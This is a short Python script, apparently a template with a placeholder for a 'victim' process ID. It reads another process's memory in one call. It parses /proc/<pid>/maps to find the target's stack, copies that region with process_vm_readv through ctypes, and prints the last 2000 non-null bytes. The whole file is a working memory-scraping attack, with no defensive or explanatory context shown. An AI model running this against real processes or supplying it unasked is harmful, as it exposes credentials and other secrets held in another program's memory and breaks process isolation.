"""Reads another process's memory with one call."""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
for line in open("/proc/@VICTIM_PID@/maps"):
    if "[stack]" in line:
        start, end = (int(x, 16) for x in line.split()[0].split("-"))
buffer = ctypes.create_string_buffer(end - start)
libc.process_vm_readv(@VICTIM_PID@, ctypes.byref(Vector(ctypes.addressof(buffer), end - start)), 1, ctypes.byref(Vector(start, end - start)), 1, 0)
print(buffer.raw.replace(b"\0", b"")[-2000:])
